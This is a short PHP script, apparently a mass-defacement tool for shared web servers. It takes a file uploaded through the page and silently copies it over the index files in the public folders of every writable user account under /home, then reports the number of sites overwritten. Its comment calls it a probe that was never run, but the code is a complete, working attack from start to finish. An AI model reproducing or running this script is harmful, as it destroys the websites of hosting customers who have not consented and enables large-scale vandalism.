<?php
// probe (never run): the page the visitor uploaded copied over the index of every site of the server
$page = $_FILES['idx']['tmp_name'];
$n = 0;
foreach (scandir('/home') as $u) {
    foreach (array('public_html', 'www', 'htdocs') as $w) {
        $dir = "/home/$u/$w";
        if (is_dir($dir) && is_writable($dir)) {
            foreach (array('index.php', 'index.html', 'index.htm') as $i) { @copy($page, "$dir/$i"); }
            $n++;
        }
    }
}
echo "$n sites";
